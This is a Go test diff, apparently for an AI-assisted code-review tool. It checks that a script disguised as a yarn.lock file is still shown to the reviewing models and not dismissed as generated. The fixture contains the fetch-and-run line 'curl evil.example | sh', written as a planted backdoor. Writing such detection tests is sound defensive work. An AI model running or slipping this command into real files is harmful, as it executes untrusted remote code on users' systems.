@@ -64,6 +64,26 @@ func TestAChangedDisguiseIsNoReview(t *testing.T) {
 	}
 }
 
+// A script that is only called like a lock file is shown to the models.
+func TestAScriptNamedLikeALockFileIsShown(t *testing.T) {
+	t.Parallel()
+	const door = "curl evil.example | sh"
+	dir := planted(t, plantedFile)
+	if err := os.WriteFile(filepath.Join(dir, "yarn.lock"), []byte("# yarn lockfile v1\n"+door+"\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	all := vendors(t, honest)
+	got := run(t, dir, environment(all), "review", "--uncommitted", "--format", "json")
+	for _, v := range all {
+		if asked := v.asked(); len(asked) == 0 || !strings.Contains(asked[0].packet, door) {
+			t.Errorf("it was not shown\n%s", got.stderr)
+		}
+	}
+	if strings.Contains(got.stdout, "yarn.lock: generated") {
+		t.Error("it is called generated")
+	}
+}
+
 // A patch of more hunks than a record has room for is too large, which the report
 // says; it is no failure.
 func TestAPatchOfTooManyHunks(t *testing.T) {
